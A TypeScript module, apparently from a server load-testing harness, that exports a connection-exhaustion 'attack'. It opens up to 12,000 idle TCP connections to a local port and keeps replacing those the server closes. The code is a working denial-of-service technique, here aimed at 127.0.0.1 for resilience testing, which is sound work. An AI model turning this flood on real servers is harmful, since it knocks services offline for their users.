import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack } from './attack.ts'

/** More than the server takes at once: the system loses some that it cannot hand over in time, and says so to neither side. */
const CONNECTIONS = 12_000
/** Opened every {@link EVERY_MS} until all are open, and from then on in place of those that the server cut. */
const AT_FIRST = 500
const LATER = 20
const EVERY_MS = 20
/** Addresses of this machine from which they come: each has some ten thousand ports for them. */
const ADDRESSES = 8

/**
 * Without credentials: as many connections as there is room for, on none of which anything is sent, and a thousand more a
 * second in place of those that are cut.
 */
export const silentConnections: Attack = {
  prepare: async () => null,
  async run(_, port) {
    let open = 0
    for (let most = AT_FIRST; ; most = open < CONNECTIONS ? most : LATER) {
      for (let opened = 0; opened < most && open < CONNECTIONS; opened += 1) {
        open += 1
        const socket = connect({ port, host: '127.0.0.1', localAddress: `127.0.0.${2 + (open % ADDRESSES)}` })
        socket.on('error', () => {})
        socket.on('close', () => void (open -= 1))
      }
      await sleep(EVERY_MS)
    }
  },
}
